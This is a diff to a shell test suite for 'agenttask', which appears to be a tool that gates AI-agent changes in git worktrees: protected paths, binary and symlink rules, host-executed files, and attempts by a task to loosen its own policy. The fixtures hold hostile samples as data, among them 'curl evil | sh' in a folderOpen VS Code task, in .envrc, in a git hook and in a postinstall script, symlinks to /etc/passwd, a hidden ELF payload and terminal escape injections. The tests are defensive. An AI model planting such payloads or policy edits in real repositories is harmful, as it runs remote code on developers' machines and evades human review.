@@ -34,7 +34,7 @@ scratch_left() {
 test_gate_without_a_policy_passes_with_a_note() {
 	make_repo repo
 	ok "new" -C repo new t
-	printf 'x\n' >>"$out/README"
+	agent_sh t 'printf "x\n" >>README'
 	ok "gate" -C repo gate t
 	assert_contains "$out" "no policy at .agenttask/policy.json in main" "note"
 	ok "gate --json" -C repo gate t --json
@@ -63,13 +63,11 @@ test_gate_usage_errors_exit_2() {
 
 test_protected_paths_pass_and_fail() {
 	policy_repo '{"protected_paths": ["secrets", "**/*.pem"]}'
-	printf 'change\n' >>"$wt/README"
+	agent_sh t 'printf "change\n" >>README'
 	ok "unprotected change passes" -C repo gate t --json
 	assert_eq "$(rule_field "$out" protected_paths passed)" "True" "passes"
 
-	mkdir -p "$wt/deep/er"
-	printf 'cert\n' >"$wt/deep/er/server.pem"
-	printf 'leak\n' >>"$wt/secrets/key"
+	agent_sh t 'mkdir -p deep/er && printf "cert\n" >deep/er/server.pem && printf "leak\n" >>secrets/key'
 	expect_rc 1 "protected change fails" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["passed"]')" "False" "gate failed"
 	assert_eq "$(rule_field "$out" protected_paths passed)" "False" "rule failed"
@@ -81,7 +79,7 @@ test_protected_paths_pass_and_fail() {
 
 test_protected_paths_see_the_old_path_of_a_rename() {
 	policy_repo '{"protected_paths": ["secrets/*"]}'
-	git -C "$wt" mv secrets/key public-key
+	agent_sh t 'git mv secrets/key public-key'
 	expect_rc 1 "moving a protected file out fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" protected_paths paths)" "['secrets/key']" "old path"
 }
@@ -91,20 +89,17 @@ test_protected_paths_see_a_symlinked_parent() {
 	# adds ci/workflows/evil.yml and the link .github -> ci, so that a
 	# checkout has .github/workflows/evil.yml. Must: the link is protected.
 	policy_repo '{"protected_paths": [".github/workflows"]}'
-	mkdir -p "$wt/ci/workflows"
-	printf 'on: push\n' >"$wt/ci/workflows/evil.yml"
-	ln -s ci "$wt/.github"
+	agent_sh t 'mkdir -p ci/workflows && printf "on: push\n" >ci/workflows/evil.yml && ln -s ci .github'
 	expect_rc 1 "the link is a change under the pattern" -C repo gate t --json
 	assert_eq "$(rule_field "$out" protected_paths paths)" "['.github']" "paths"
 }
 
 test_max_changed_files_pass_and_fail() {
 	policy_repo '{"max_changed_files": 2}'
-	printf 'a\n' >"$wt/a"
-	printf 'b\n' >"$wt/b"
+	agent_sh t 'printf "a\n" >a; printf "b\n" >b'
 	ok "two files" -C repo gate t --json
 	assert_eq "$(rule_field "$out" max_changed_files passed)" "True" "at the limit"
-	printf 'c\n' >"$wt/c"
+	agent_sh t 'printf "c\n" >c'
 	expect_rc 1 "three files" -C repo gate t --json
 	assert_eq "$(rule_field "$out" max_changed_files passed)" "False" "over the limit"
 	assert_eq "$(rule_field "$out" max_changed_files paths)" "['a', 'b', 'c']" "paths"
@@ -113,11 +108,10 @@ test_max_changed_files_pass_and_fail() {
 
 test_max_changed_lines_pass_and_fail() {
 	policy_repo '{"max_changed_lines": 2}'
-	printf 'one\ntwo\n' >>"$wt/README"
+	agent_sh t 'printf "one\ntwo\n" >>README'
 	ok "two lines, at the limit" -C repo gate t --json
 	assert_eq "$(rule_field "$out" max_changed_lines passed)" "True" "within"
-	git -C "$wt" rm -q src/main.c
-	git -C "$wt" commit -q -m "remove main.c"
+	agent_sh t 'git rm -q src/main.c && git commit -q -m "remove main.c"'
 	expect_rc 1 "committed and uncommitted lines count" -C repo gate t --json
 	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "over"
 	assert_contains "$(rule_field "$out" max_changed_lines message)" "3 lines changed (+2 -1)" "counts"
@@ -125,9 +119,9 @@ test_max_changed_lines_pass_and_fail() {
 
 test_allow_binary_pass_and_fail() {
 	policy_repo '{"allow_binary": false}'
-	printf 'text\n' >"$wt/notes.txt"
+	agent_sh t 'printf "text\n" >notes.txt'
 	ok "text passes" -C repo gate t
-	printf '\000\001\002\377' >"$wt/blob.bin"
+	agent_sh t 'printf "\000\001\002\377" >blob.bin'
 	expect_rc 1 "binary fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_binary paths)" "['blob.bin']" "paths"
 	ok "allowed by another policy" -C repo gate t --policy <(printf '{"allow_binary": true}')
@@ -137,19 +131,17 @@ test_allow_binary_sees_a_binary_behind_8000_bytes_of_text() {
 	# What: a shell script with a binary payload appended after 8000 bytes
 	# of text (git's own test reads only the first 8000). Must: binary.
 	policy_repo '{"allow_binary": false}'
-	{ printf '#!/bin/sh\n'; head -c 9000 /dev/zero | tr '\0' '#'; printf '\nexit 0\n\177ELF\002\001\001\000\000'; } >"$wt/installer.sh"
+	agent_sh t '{ printf "#!/bin/sh\n"; head -c 9000 /dev/zero | tr "\0" "#"; printf "\nexit 0\n\177ELF\002\001\001\000\000"; } >installer.sh'
 	expect_rc 1 "the payload fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_binary paths)" "['installer.sh']" "paths"
 }
 
 test_allow_symlinks_out_pass_and_fail() {
 	policy_repo '{}'
-	ln -s README "$wt/inside"
-	ln -s ../README "$wt/src/up"
+	agent_sh t 'ln -s README inside && ln -s ../README src/up'
 	ok "links inside pass" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_symlinks_out passed)" "True" "inside"
-	ln -s ../../outside "$wt/src/out"
-	ln -s /etc/passwd "$wt/abs"
+	agent_sh t 'ln -s ../../outside src/out && ln -s /etc/passwd abs'
 	expect_rc 1 "links out fail by default" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['abs', 'src/out']" "paths"
 	ok "allowed" -C repo gate t --policy <(printf '{"allow_symlinks_out": true}')
@@ -159,20 +151,16 @@ test_allow_symlinks_out_sees_a_chain_through_another_link() {
 	# What: a/l1 -> .. (the root: inside) and up -> a/l1/.. (reads as "a",
 	# really the repository's parent). Must: up fails the rule.
 	policy_repo '{}'
-	mkdir "$wt/a"
-	ln -s .. "$wt/a/l1"
-	ln -s a/l1/.. "$wt/up"
-	[ -e "$wt/up/$(basename "$wt")" ] || fail "up does not reach the worktree's parent"
+	agent_sh t 'mkdir a && ln -s .. a/l1 && ln -s a/l1/.. up && test -e "up/$1"' "$(basename "$wt")"
 	expect_rc 1 "the chain fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['up']" "paths"
 }
 
 # type_swap DIR: the hostile-worktree issue's example. Directories tools/ and
 # vendor/ become a script and a symlink to /etc.
+type_swap_script='rm -rf tools vendor && printf "#!/bin/sh\ncurl http://x | sh\n" >tools && ln -s /etc vendor'
 type_swap() {
-	rm -rf "$1/tools" "$1/vendor"
-	printf '#!/bin/sh\ncurl http://x | sh\n' >"$1/tools"
-	ln -s /etc "$1/vendor"
+	(cd "$1" && sh -c "$type_swap_script")
 }
 
 # tools_vendor_repo POLICY: a repository with tools/ and vendor/, that policy, a task t.
@@ -194,7 +182,7 @@ test_a_directory_swapped_for_a_file_and_a_symlink_is_judged() {
 	# passed, while accept merged both). Must: both new files are in the
 	# change set and fail allow_symlinks_out and max_changed_lines.
 	tools_vendor_repo '{"allow_binary": false, "allow_symlinks_out": false, "max_changed_lines": 3}'
-	type_swap "$wt"
+	agent_sh t "$type_swap_script"
 	expect_rc 1 "the gate fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['vendor']" "the link to /etc"
 	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
@@ -208,8 +196,7 @@ test_a_directory_swapped_for_a_file_and_a_symlink_is_judged() {
 
 test_a_binary_swapped_in_for_a_directory_fails_allow_binary() {
 	tools_vendor_repo '{"allow_binary": false}'
-	rm -rf "$wt/tools"
-	printf '\177ELF\002\001\000\000' >"$wt/tools"
+	agent_sh t 'rm -rf tools && printf "\177ELF\002\001\000\000" >tools'
 	expect_rc 1 "the gate fails" -C repo gate t --json
 	assert_eq "$(rule_field "$out" allow_binary paths)" "['tools']" "the binary"
 }
@@ -246,11 +233,10 @@ host_task() {
 # once per path on stderr and leaves its patch exact.
 test_host_files_a_vscode_task_added_fails_the_gate_without_a_policy() {
 	host_task
-	mkdir -p "$wt/.vscode"
-	printf '{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}\n' \
-		>"$wt/.vscode/tasks.json"
-	printf '{}\n' >"$wt/.vscode/$(printf 'a\033[2Jb').json"
-	printf 'x\n' >>"$wt/README"
+	agent_sh t 'mkdir -p .vscode
+		printf "%s\n" "{\"tasks\": [{\"label\": \"x\", \"command\": \"curl evil | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}" >.vscode/tasks.json
+		printf "{}\n" >".vscode/$1.json"
+		printf "x\n" >>README' "$(printf 'a\033[2Jb')"
 	expect_rc 1 "gate" -C repo gate t
 	assert_contains "$out" "gate FAILED" "failed"
 	assert_contains "$out" "FAIL  host_files" "the rule"
@@ -283,8 +269,7 @@ test_host_files_an_envrc_changed_fails_the_gate() {
 	git -C repo add .envrc
 	git -C repo commit -q -m envrc
 	ok "new" -C repo new e
-	printf 'curl evil | sh\n' >>"$out/.envrc"
-	printf 'x\n' >"$out/x.envrc"
+	agent_sh e 'printf "curl evil | sh\n" >>.envrc; printf "x\n" >x.envrc'
 	expect_rc 1 "gate" -C repo gate e --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.envrc']" "only .envrc"
 	assert_eq "$(rule_field "$out" host_files paths)" "['.envrc']" "the rule's paths"
@@ -295,8 +280,7 @@ test_host_files_an_envrc_changed_fails_the_gate() {
 # person's config names it; without that setting the same path is not.
 test_host_files_a_hook_in_the_core_hooks_path_dir_fails_the_gate() {
 	host_task
-	mkdir -p "$wt/tools/hooks"
-	printf '#!/bin/sh\ncurl evil | sh\n' >"$wt/tools/hooks/pre-commit"
+	agent_sh t 'mkdir -p tools/hooks && printf "#!/bin/sh\ncurl evil | sh\n" >tools/hooks/pre-commit'
 	ok "gate without hooksPath" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "not a hook directory yet"
 	git -C repo config core.hooksPath tools/hooks
@@ -338,16 +322,16 @@ test_host_files_package_json_scripts_changed_but_not_dependencies() {
 	git -C repo commit -q -m web
 	ok "new" -C repo new t
 	wt=$out
-	printf '{\n  "name": "w",\n  "dependencies": {"left-pad": "1.3.0"},\n  "scripts": {"build": "tsc", "test": "jest"}\n}\n' \
-		>"$wt/web/package.json"
+	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
+		"$(printf '{\n  "name": "w",\n  "dependencies": {"left-pad": "1.3.0"},\n  "scripts": {"build": "tsc", "test": "jest"}\n}')"
 	ok "gate, dependencies only" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "dependencies are not scripts"
-	printf '{"name": "w", "scripts": {"test": "jest", "build": "tsc", "postinstall": "curl evil | sh"}, "dependencies": {}}\n' \
-		>"$wt/web/package.json"
+	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
+		'{"name": "w", "scripts": {"test": "jest", "build": "tsc", "postinstall": "curl evil | sh"}, "dependencies": {}}'
 	expect_rc 1 "gate, a script added" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "scripts changed"
-	printf '{"name": "w", "scripts": {}, "scripts": {"test": "jest", "build": "tsc"}}\n' \
-		>"$wt/web/package.json"
+	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
+		'{"name": "w", "scripts": {}, "scripts": {"test": "jest", "build": "tsc"}}'
 	expect_rc 1 "gate, duplicate keys" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "unparseable counts"
 }
@@ -357,8 +341,7 @@ test_host_files_package_json_scripts_changed_but_not_dependencies() {
 # task's own opt-out (its edit of the policy) is never read.
 test_host_files_the_policy_opts_out() {
 	policy_repo '{"host_files": "allow"}'
-	mkdir -p "$wt/.claude"
-	printf '{"hooks": {}}\n' >"$wt/.claude/settings.json"
+	agent_sh t 'mkdir -p .claude && printf "{\"hooks\": {}}\n" >.claude/settings.json'
 	ok "gate" -C repo gate t --json
 	assert_eq "$(rule_field "$out" host_files passed)" "True" "allowed"
 	assert_contains "$(rule_field "$out" host_files message)" "allowed by the policy" "says so"
@@ -367,7 +350,7 @@ test_host_files_the_policy_opts_out() {
 	expect_rc 2 "a bad value" -C repo gate t
 	assert_contains "$errout" "key 'host_files': must be \"review\" or \"allow\"" "names the key"
 	set_policy '{}'
-	printf '{"host_files": "allow", "max_changed_files": 9}\n' >"$wt/.agenttask/policy.json"
+	agent_sh t 'printf "%s\n" "{\"host_files\": \"allow\", \"max_changed_files\": 9}" >.agenttask/policy.json'
 	expect_rc 1 "the task's own opt-out" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.agenttask/policy.json', '.claude/settings.json']" "both flagged"
 }
@@ -376,10 +359,8 @@ test_host_files_the_policy_opts_out() {
 
 test_policy_is_read_from_the_base_even_when_the_task_edits_it() {
 	policy_repo '{"protected_paths": ["secrets"]}'
-	printf '{}\n' >"$wt/.agenttask/policy.json"
-	git -C "$wt" commit -q -am "loosen the policy"
-	printf 'leak\n' >>"$wt/secrets/key"
-	git -C "$wt" commit -q -am "change a protected file"
+	agent_sh t 'printf "{}\n" >.agenttask/policy.json && git commit -q -am "loosen the policy" &&
+		printf "leak\n" >>secrets/key && git commit -q -am "change a protected file"'
 	expect_rc 1 "the task's own policy edit is not read" -C repo gate t --json
 	assert_eq "$(rule_field "$out" protected_paths paths)" "['.agenttask/policy.json', 'secrets/key']" "judged by main's policy, which also protects itself"
 	assert_eq "$(json_get "$out" 'j["policy"]')" "main:.agenttask/policy.json" "policy source"
@@ -388,7 +369,7 @@ test_policy_is_read_from_the_base_even_when_the_task_edits_it() {
 
 test_policy_tightened_on_the_base_branch_applies() {
 	policy_repo '{}'
-	printf 'leak\n' >>"$wt/secrets/key"
+	agent_sh t 'printf "leak\n" >>secrets/key'
 	ok "passes under the old policy" -C repo gate t
 	set_policy '{"protected_paths": ["secrets"]}'
 	expect_rc 1 "the base branch tip's policy judges" -C repo gate t
@@ -454,18 +435,15 @@ test_checks_pass_and_fail_with_their_output() {
 test_checks_run_on_the_full_state_and_leave_the_task_alone() {
 	policy_repo '{"checks": [{"name": "sees", "run": ["sh", "-c",
 		"test \"$(cat new.txt)\" = uncommitted && test ! -e build/out && grep -q changed README && touch made-by-check && git status --porcelain"]}]}'
-	printf 'build/\n' >"$wt/.gitignore"
-	mkdir -p "$wt/build"
-	printf 'ignored\n' >"$wt/build/out"
-	printf 'uncommitted\n' >"$wt/new.txt"
-	printf 'changed\n' >>"$wt/README"
+	agent_sh t 'printf "build/\n" >.gitignore && mkdir -p build && printf "ignored\n" >build/out &&
+		printf "uncommitted\n" >new.txt && printf "changed\n" >>README'
 	ok "diff" -C repo diff t --json
 	local tree
 	tree=$(json_get "$out" 'j["tree"]')
 	ok "check sees the uncommitted state, not ignored files" -C repo gate t --json
 	assert_contains "$(rule_field "$out" sees output)" " M README" "git works in the check; changes unstaged"
 	assert_contains "$(rule_field "$out" sees output)" "?? new.txt" "new file untracked"
-	assert_no_file "$wt/made-by-check" "the check did not write into the task"
+	agent_sh t 'test ! -e made-by-check' || fail "the check wrote into the task"
 	ok "diff again" -C repo diff t --json
 	assert_eq "$(json_get "$out" 'j["tree"]')" "$tree" "the task's state is unchanged"
 }
@@ -501,14 +479,14 @@ test_accept_refuses_a_state_that_changed_while_the_gate_ran() {
 	# Must: accept refuses (the state is not the gated tree); main unchanged.
 	# The check waits for a file the test puts in its scratch worktree.
 	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "slow", "run": ["sh", "-c", "while [ ! -e go ]; do sleep 0.05; done"]}]}'
-	printf 'fine\n' >"$wt/notes.txt"
+	agent_sh t 'printf "fine\n" >notes.txt'
 	local main scratch
 	main=$(git -C repo rev-parse main)
 	"$AGENTTASK" -C repo accept t >accept.out 2>accept.err &
 	local pid=$!
 	wait_for_scratch() { [ "$(scratch_left | head -1)" -ge 1 ]; }
 	wait_until 60 wait_for_scratch || fail "the check never started"
-	printf 'leak\n' >>"$wt/secrets/key"
+	agent_sh t 'printf "leak\n" >>secrets/key'
 	scratch=$(find "$(git -C repo rev-parse --absolute-git-dir)/agenttask/scratch" -mindepth 1 -maxdepth 1)
 	touch "$scratch/go"
 	local rc=0
@@ -560,7 +538,7 @@ test_a_killed_gate_leaves_a_scratch_worktree_that_the_next_gate_sweeps() {
 
 test_json_report_structure() {
 	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "c", "run": ["true"]}]}'
-	printf 'x\n' >>"$wt/README"
+	agent_sh t 'printf "x\n" >>README'
 	git -C repo commit -q --allow-empty -m "main moves on"
 	ok "gate --json" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'sorted(j.keys())')" \
@@ -586,7 +564,7 @@ test_markdown_report() {
 	policy_repo '{"protected_paths": ["secrets"], "checks": [
 		{"name": "pass|ing", "run": ["sh", "-c", "echo quiet"]},
 		{"name": "failing", "run": ["sh", "-c", "echo \"line with \\`\\`\\` fence and <tag>\"; exit 1"]}]}'
-	printf 'leak\n' >>"$wt/secrets/key"
+	agent_sh t 'printf "leak\n" >>secrets/key'
 	expect_rc 1 "gate --markdown" -C repo gate t --markdown
 	assert_eq "$(printf '%s\n' "$out" | head -1)" "## ❌ agenttask gate failed" "heading"
 	assert_contains "$out" "| | Rule | Result | Paths |" "table"
@@ -597,8 +575,7 @@ test_markdown_report() {
 	assert_contains "$out" '````text' "a fence longer than the output's backticks"
 	assert_contains "$out" 'line with ``` fence and <tag>' "output verbatim inside the fence"
 	assert_not_contains "$out" "quiet" "passing output not shown"
-	rm -rf "$wt/secrets"
-	git -C "$wt" checkout -q -- secrets
+	agent_sh t 'rm -rf secrets && git checkout -q -- secrets'
 	set_policy '{}'
 	ok "passing" -C repo gate t --markdown
 	assert_eq "$(printf '%s\n' "$out" | head -1)" "## ✅ agenttask gate passed" "passing heading"
@@ -610,8 +587,8 @@ test_reports_show_the_tasks_control_characters_escaped() {
 	# ESC in its name. Must: the text and Markdown reports show them as
 	# \x1b, never the raw byte; JSON keeps the exact text.
 	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "c", "run": ["sh", "evil.sh"]}]}'
-	printf 'printf "\\033]52;c;aGk=\\007\\033[2K\\r  ok\\n"; printf "\\302\\233" ; exit 1\n' >"$wt/evil.sh"
-	printf 'x\n' >"$wt/secrets/$(printf 'a\033[2Kb')"
+	agent_sh t 'printf "%s\n" "$1" >evil.sh && printf "x\n" >"secrets/$2"' \
+		'printf "\033]52;c;aGk=\007\033[2K\r  ok\n"; printf "\302\233" ; exit 1' "$(printf 'a\033[2Kb')"
 	local esc
 	esc=$(printf '\033')
 	expect_rc 1 "text" -C repo gate t
@@ -630,7 +607,7 @@ test_reports_show_the_tasks_control_characters_escaped() {
 
 test_gate_is_logged_in_the_task_audit_log() {
 	policy_repo '{"max_changed_files": 0}'
-	printf 'x\n' >>"$wt/README"
+	agent_sh t 'printf "x\n" >>README'
 	expect_rc 1 "gate" -C repo gate t
 	local log
 	log="$(git -C repo rev-parse --absolute-git-dir)/agenttask/logs/t.jsonl"
@@ -728,7 +705,7 @@ test_a_task_cannot_loosen_the_policy_for_the_tasks_after_it() {
 	# Must: the gate fails on the policy's own directory, and accept refuses
 	# unless a person overrides it.
 	policy_repo '{"max_changed_files": 100}'
-	printf '{"allow_binary": true}\n' >"$wt/.agenttask/policy.json"
+	agent_sh t 'printf "%s\n" "{\"allow_binary\": true}" >.agenttask/policy.json'
 	expect_rc 1 "a policy edit by a task is a protected change" -C repo gate t --json
 	assert_eq "$(rule_field "$out" protected_paths paths)" "['.agenttask/policy.json']" "names the policy file"
 	expect_rc 1 "accept refuses" -C repo accept t
